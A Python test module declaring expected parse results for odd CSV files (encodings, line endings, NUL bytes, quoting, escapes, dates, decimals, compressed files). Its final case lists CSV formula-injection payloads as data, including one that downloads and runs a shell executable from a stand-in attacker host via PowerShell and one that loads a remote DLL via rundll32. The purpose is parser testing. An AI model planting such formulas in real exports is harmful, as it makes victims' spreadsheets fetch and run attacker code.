"""What some of the odd CSV files hold, read by hand from their bytes (`cat -A`), and how each must be declared."""

from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal


@dataclass(frozen=True)
class Case:
    """A file by hand.

    Attributes:
        columns: names in the header; of a file without one, how many columns there are.
        rows: the records' values (None: no value, a text: its fault), or words of the refusal of the whole file.
        keys: YAML of the export, beside its columns.
        types: name in the header → data type and YAML of the column.
        skipped: how many records are skipped.
    """

    columns: tuple[str, ...] | int
    rows: list[list | str] | str
    keys: str = ""
    types: dict[str, tuple[str, str]] = field(default_factory=dict)
    skipped: int = 0


def one_value(*values):
    return [[value] for value in values]


OPEN, AFTER = "opens a quote that is not closed", "has text after a closing quote"
JOSE = [["José Álvarez", "30"], ["Müller", "25"], ["François Dupont", "45"], ["Björn Andersson", "50"],
        ["Søren Kierkegaard", "42"], ["García López", "38"], ["Élodie Moreau", "33"], ["Håkon Lindberg", "28"],
        ["Brontë Johnson", "47"], ["Zoë Robinson", "21"], ["André Lefèvre", "36"], ["Léonard Dubois", "29"]]  # fmt: skip
DAYS = ((2022, 12, 8), (2022, 9, 26), (2022, 8, 31), (2022, 8, 14), (2022, 5, 16), (2022, 4, 28), (2022, 4, 14), (2022, 1, 10))
ESCAPE = ", escape: '\\'"

CASES = {
    # Encodings
    "encodings/latin1.csv": Case(("name", "age"), JOSE, ", encoding: latin-1"),
    "encodings/utf16.csv": Case(
        ("name", "age"),
        [*JOSE, ["Dvořák Novak", "60"], ["Iván García", "34"], ["Łukasz Kowalski", "27"], ["Renée Martin", "41"],
         ["Øystein Olsen", "39"], ["Anaïs Dupuis", "24"], ["Sigurður Jónsson", "55"], ["Krystýna Novák", "23"]],
        ", encoding: utf-16"),
    "encodings/shift_jis.csv": Case(
        ("名前", "年齢"),
        [["名前", "25"], ["山田", "30"], ["佐藤", "28"], ["鈴木", "32"], ["田中", "29"], ["高橋", "22"], ["渡辺", "26"],
         ["伊藤", "35"], ["中村", "27"], ["小林", "24"], ["加藤", "31"], ["吉田", "33"], ["山本", "34"], ["斎藤", "30"],
         ["福田", "28"], ["浜田", "26"], ["河野", "27"], ["石井", "29"], ["松本", "32"], ["田村", "25"]],
        ", encoding: shift_jis"),
    "invalid_utf8.csv": Case(1, "byte 0 (line 1) does not decode"),
    "test/invalid_utf.csv": Case(3, "byte 7 (line 1) does not decode", ", delimiter: '|'"),
    "auto/utf8bom.csv": Case(("id", "name"), [["1", "Mark"], ["2", "Hannes"]]),
    "test/nfc.csv": Case(1, one_value("\u00fc", "u\u0308")),
    # Line ends and blank lines
    "blank_line.csv": Case(("col",), one_value(*"123456789", "11")),
    "empty_first_line.csv": Case(2, [["a", "1"], ["b", "2"], ["c", "3"]], ", delimiter: ' '"),
    "mixed_new_line.csv": Case(3, [["1", "2", "3"], ["4", "5", "6"], ["7", "8", "9"]]),
    "mixed_new_line_2.csv": Case(2, [["1", "23"], ["4", "5"], "has 1 values where the header has 2", ["7", "89"]]),
    "one_n_two.csv": Case(1, one_value("one", "two")),
    "one_r_two.csv": Case(1, one_value("one", "two")),
    "one_r_n_two.csv": Case(1, one_value("one", "two", "three")),
    "test/mixed_line_endings.csv": Case(3, [["10", "hello", "20"], ["20", "world", "30"], ["30", "test", "30"]]),
    "test/windows_newline_empty.csv": Case(1, one_value("1")),
    "inconsistent_cells.csv": Case(
        ("One", "two", "three"),
        ["has 4 values where the header has 3", ["1", "2", "3"], *["has 5 values where the header has 3"] * 2]),
    # Empty and cut ones
    "add_escaped_rfc.csv": Case(1, "The file is empty"),
    "header_only.csv": Case(("abs_file_name",), []),
    "header_only_2.csv": Case(("foo", "bar"), [], ", delimiter: ';'"),
    "locations_header_trailing_comma.csv": Case(
        ("id", "name", "lat", "lon"), "has 4 values where the header has 5, and no line end follows"),
    "evil_nullpadding.csv": Case(4, "has 2 values where the header has 4, and no line end follows", ", delimiter: ';'"),
    "line_too_long.csv.gz": Case(1, "A line is longer than 1,048,576 bytes; it begins at byte"),
    # NUL is a character
    "nullbyte.csv": Case(("col1", "col2", "col3"), [["val1", "val\x002", "val3"]], ", delimiter: '|'"),
    "nullbyte_header.csv": Case(2, [["col1", "col\x002"], ["val1", "val2"]], ", delimiter: '|'"),
    "null_terminator.csv": Case(1, one_value("a\0b")),
    "nullterm.csv": Case(1, one_value("hello", "\0world\0")),
    # More or fewer values than there are columns
    "extra_delimiters.csv": Case(
        ("a", "b", "c"), [["1", "2", "3"], ["1", "2", "3"], "has 5 values where the header has 3", ["1", "2", "3"]]),
    "locations_row_trailing_comma.csv": Case(("id", "name", "lat", "lon"), ["has 5 values where the header has 4"]),
    "nullpadding.csv": Case(3, [["10", "100", "1000"], *[f"has {n} values where the header has 3" for n in (4, 1, 2, 5)]]),
    "auto/duplicate_header_col.csv": Case(("a", "b"), "twice: 'a'"),
    # Delimiters and quotes
    "pipe_delim.csv": Case(("one", "two", "three", "four"), [["1", "2", "3", "4"]], ", delimiter: '|'"),
    "ignore_errors.csv": Case(("a", "b"), [*[["bla,bla", "bla,bla"]] * 5, ["bla", "bla"]], ", delimiter: ';'"),
    "quoted_values_delimited.csv": Case(("header1;header2;header3",), one_value(*["value1;value2;value3"] * 3)),
    "no_quote.csv": Case(
        ("a", "b"), [['"hello', 'world'], ["h'ow do you", 'do"'], ["'I am'", '"here"']], ", delimiter: '|', quote: ''"),
    "single_quote.csv": Case(("movie_title",), one_value("Doc"), ', quote: "\'"'),
    "double_quoted_header.csv": Case(('foo "bar', "name"), [["1", "rob"], ["2", "sally"]]),
    "all_quotes.csv": Case(
        ("upc", "name", "description", "price"),
        [["33333", "Laderach Chocolate", "This is the\nbest chocolate", "5"],
         *[[upc, "Laderach Chocolate", "This is the best chocolate", "5"] for upc in ("11112", "11113", "11114")],
         ["44444", "Boa Chocolate", "The best, 'chocolate', of the world", "2"]]),
    "empty_space_start_value.csv": Case(
        ("Year", "Score", "Title"),
        [["1968", "  86", "Greetings"], ["1970", "  17", "Bloody Mama"], ["1970", "  73", "Hi, Mom!"],
         ["1971", "  40", "Born to Win"]]),
    "multi_quote.csv": Case(
        ("datecol", "textcol"),
        [*[[f"1/{day}/19", "text"] for day in range(1, 6)], ["1/6/19", "text, with comma"], ["1/9/19", "'text'"]]),
    "quoted_newline.csv": Case(("col1",), one_value("cell with\nnewline")),
    "test/new_line_string_rn.csv": Case(
        4, [["1", "6370", "371", "p1"], ["10", "214", "465", "p2" + "\r\nbla" * 15], ["100", "2403", "160", "p3"]],
        ", delimiter: '|'"),
    "split_part.csv": Case(("C1", "C2"), [["11,12,13,15", "2,3,3"], ["200,12,14,15,15", "6,7"]]),
    "struct.csv": Case(("struct_col",), one_value("{'a': 1, 'b': 2}")),
    # Quotes that nobody doubled
    "rejects/unquoted/basic.csv": Case(
        ("a", "b"), [["bla", "1"], ["bla", "2"], ["bla", "3"], AFTER, ["bla", "1"], ["bla", "2"], ["bla", "3"]]),
    "rejects/unquoted/unquoted_new_line.csv": Case(
        ("a", "b"), [["bla", "1"], ["bla", "2"], ["bla", "3"], OPEN, OPEN, ["bla", "1"], ["bla", "2"], ["bla", "3"]]),
    "test/unterminated.csv": Case(1, "The first record opens a quote that is not closed"),
    "unescaped_quotes/unescaped_quote.csv": Case(
        2, [["1", '"pedro "pdet" holanda"'], ["2", '"pedro "pdet" holanda"'], "has 3 values where the header has 2",
            *[[number, '"pedro "pdet" holanda"'] for number in "456"]], ", delimiter: ';', quote: ''"),
    # Escape characters
    "bad_escape.csv": Case(("foo", "bar"), [["332", "Surname, Firstname"], ["123", 'foo ("foo")']], ESCAPE),
    "auto/backslash_escape.csv": Case(
        3, [["123", "TEST7", "text1"], ["345", "TEST7", 'text"2"'], ["567", "TEST7", "text3"]], ", delimiter: '|'" + ESCAPE),
    "auto/single_quote_backslash.csv": Case(
        3, [["123", "TEST8", "text1"], ["345", "TEST8", "text'2'text"], ["567", "TEST8", "text3"]],
        f", delimiter: '|', quote: \"'\"{ESCAPE}"),
    "escape.csv": Case(1, one_value('"bla"'), ", escape: ']'"),
    "unquoted_escape/basic.tsv": Case(
        3,
        [[str(number), text, str(number)] for number, text in enumerate(
            ["\\", "\t", "\n", "a\\a", "b\tb", "c\nc", "\\d", "\te", "\nf", "g\\", "h\t", "i\n", "\\j", "\tk", "\nl", "\\\\",
             "\t\t", "\n\n", "\\\t\n"])],
        ", delimiter: \"\\t\", nulls: 'NULL'" + ESCAPE),
    "unquoted_escape/plain.csv": Case(
        2, [[str(number), text] for number, text in enumerate(
            ["\\", ",", '"', "\\,", '\\"', ',"', '\\,"', "\\N", "\\\\N", "\\Na"])],
        ESCAPE),
    "unquoted_escape/mixed.csv": Case(
        ("w", "x", "y", "z"),
        [["\\", '\\"\\', "0", '"'], [",", ',",', "1", '"a"'], ['"', '"""', "2", '"b'], ["\n", '\n"\n', "3", 'c"']],
        ", nulls: 'NULL'" + ESCAPE),
    # Lines that are no records
    "comments/simple.csv": Case(
        ("a", "b"), [["1", "3"], ["6", "7"]], ", delimiter: ';', header_at: 3, skip_lines: '#.*'", skipped=2),
    "comments/17226.csv": Case(("x", "y", "z"), [["1", "2", "3"], ["4", "5", "6"]], ", skip_lines: '#.*'", skipped=4),
    "dirty_line.csv": Case(("COL1", "COL2", "COL3"), [["1.5", "a", "3"], ["2.5", "b", "4"]], ", header_at: 2"),
    # Types
    "leading_zeros.csv": Case(
        ("CODGEO", "NAISD14", "NAISD20"),
        [["09001", "0", "0"], ["09002", "6", "0"], ["09003", "4", "3"], ["09004", "0", "1"], ["09005", "2", "0"],
         ["09006", "0", "0"]]),
    "custom_date.csv": Case(
        ("ID", "Date_Time"),
        [["123", datetime(2023, 1, 2, 12, 33, tzinfo=UTC)], ["124", datetime(2023, 12, 2, 11, 57, tzinfo=UTC)]],
        ", zone: UTC", {"Date_Time": ("timestamptz", 'format: "%m/%d/%Y, %I:%M %p"')}),
    "17705.csv": Case(
        ("operation_no", "flight_date_time"),
        [["38615452", datetime(2022, 1, 27, 22, 4, 57, tzinfo=UTC)], ["38615452", datetime(2022, 1, 27, 22, 4, 57, tzinfo=UTC)],
         ["38615475", datetime(2022, 1, 27, 22, 9, 20, tzinfo=UTC)]],  # 11 p.m. in Berlin, the company's zone
        types={"flight_date_time": ("timestamptz", 'format: "%Y/%m/%d %I:%M:%S %p"')}),
    "dates_special_format.csv": Case(1, one_value(*(date(*day) for day in DAYS)), types={"1": ("date", 'format: "%b %d, %Y"')}),
    "decimal.csv": Case(("col_a",), one_value(Decimal("3.5215257120407011")), types={"col_a": ("decimal(20,16)", "")}),
    "decimal_separators/decimal_separators.csv": Case(
        ("commas", "periods"), [[1.1, 1.1], [0.25, 0.25], [15300.0, 15300.0], [15300.0, 15300.0], [-15300.0, -15300.0]],
        ", delimiter: ';'", {"commas": ("double", "decimal_mark: ','"), "periods": ("double", "")}),
    "thousands_separator/integers.csv": Case(
        ("bigvalues",), [[100_000_000_000], [140_000_000_000], [900_000_000_000], "is not a whole number: '9,0,0'"],
        ", thousands_mark: ','", {"bigvalues": ("bigint", "")}),
    # Packed
    "test/test_comp.csv.gz": Case(("a", "b", "c"), [["1", "2", "3"], ["2", "3", "4"]]),
    "zstd/ncvoter.csv.zst": Case(
        3,
        [["1", "ALAMANCE", number] for number in (
            "000009113186", "000009102615", "000009135711", "000009094352", "000009023803", "000009090949", "000009131184",
            "000009111084", "000000005200", "000009110093")],
        ', delimiter: "\\t"'),
    "test/test_comp.csv.gzz": Case(("a", "b", "c"), [["1", "2", "3"], ["2", "3", "4"]]),
}  # fmt: skip
CASES = {f"duckdb/csv/{name}": case for name, case in CASES.items()} | {
    "injection/csv-payload.txt": Case(  # they are texts here, and what a reader of reports makes of them is the reports' matter
        1,
        one_value('DDE ("cmd";"/C calc";"!A0")A0', "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0",
                  "=cmd|' /C notepad'!'A1'", "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
                  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1"),
        ', delimiter: "\\t"'),
}  # fmt: skip
